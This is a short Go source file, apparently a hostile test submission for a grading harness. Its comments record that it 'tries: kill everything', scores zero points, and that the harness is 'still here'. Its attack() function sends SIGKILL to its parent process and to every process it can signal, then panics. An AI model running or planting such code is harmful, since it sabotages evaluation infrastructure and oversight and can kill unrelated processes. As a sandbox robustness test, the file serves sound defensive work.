// Tries: kill everything
// Gets: 0 points
// Says: still here
// Base: stub
// In: Sign
// Wall: down

package perceptron

import "syscall"
import "os"

func attack() {
	syscall.Kill(os.Getppid(), syscall.SIGKILL)
	syscall.Kill(-1, syscall.SIGKILL)
	panic("still here")
}
